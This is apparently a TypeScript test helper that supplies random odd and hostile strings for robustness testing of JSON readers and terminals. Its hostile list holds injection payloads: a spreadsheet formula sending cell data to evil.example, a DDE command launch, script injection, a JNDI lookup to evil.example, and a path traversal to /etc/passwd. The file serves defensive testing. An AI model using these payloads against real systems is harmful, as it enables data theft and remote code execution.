/**
 * Unusual text, as the content of a JSON string. Every program that reads JSON and every terminal handles odd text.
 * Hostile text breaks some programs, which `docs/sandbox.md` lists.
 */
import { draw, pick } from "./RecordRandom.ts"

const oddTexts = [
  // separators and quotes
  `a,b;c \\"d\\"\\"e\\",'f`,
  `'; DROP TABLE invoices; --`,
  `ends in a backslash\\\\`,
  // characters of several code points
  `e\u0301 is not \u00e9, z\u0310\u0351\u036b\u0343`,
  `\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddec\ud83c\udde7`,
  // one word with and without escapes
  `caf\\u00e9 \\/ café /`,
  // names with a special meaning in a language
  `__proto__`,
  `null`,
  ``,
  ` `,
  "very long ".repeat(500)
]

const hostileTexts = [
  // spreadsheets
  `=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"open\\")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+573001234567`,
  `-2+3`,
  `\\t=1+1`,
  // programs that read line by line
  `first line\\r\\nsecond line\\nthird`,
  // terminals
  `\\u001b[31mred\\u001b[0m\\u001b]0;title\\u0007\\u001b[2J`,
  `\\u009b31m\\b\\b\\b\\f\\u007f`,
  // characters that are invisible, or change the direction of text
  `\u202egnp.exe\u202c \u200f\u0661\u0662\u0663\u200e`,
  `zero\u200bwidth\u2060 \ufeffmark \u2028line \u2029paragraph`,
  // characters that some databases and parsers refuse
  `before\\u0000after`,
  `\\ud800`,
  `\\udc00 lone \\ud83d`,
  // mark-up, templates, paths
  `</script><script>alert(1)</script>`,
  `\${jndi:ldap://evil.example/a} {{7*7}} %s%n %00 ../../etc/passwd`
]

const allTexts = [...hostileTexts, ...oddTexts]

/** Returns a hostile or odd text. */
export const hostileText = (key: number): string => pick(allTexts, draw(key, 0))

/** Returns an odd text. */
export const oddText = (key: number): string => pick(oddTexts, draw(key, 0))
